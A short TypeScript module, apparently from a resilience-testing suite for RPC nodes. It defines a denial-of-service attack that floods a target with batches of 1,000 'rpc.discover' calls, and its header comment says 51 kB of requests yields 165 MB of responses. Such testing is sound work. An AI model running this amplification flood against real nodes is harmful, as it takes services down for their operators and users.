/** Batches of free methods, whose answers are far larger than their requests: 51 kB ask for 165 MB. */

import { type Attack, hosts } from '../attack.ts';
import { batch, flood } from '../many.ts';

export const freeBatches: Attack = {
  name: 'free-method batches',
  run(target, seen, signal) {
    const body = batch(1_000, 'rpc.discover');
    return flood(20, { target, seen, signal }, { host: hosts.node, body: () => body });
  },
};
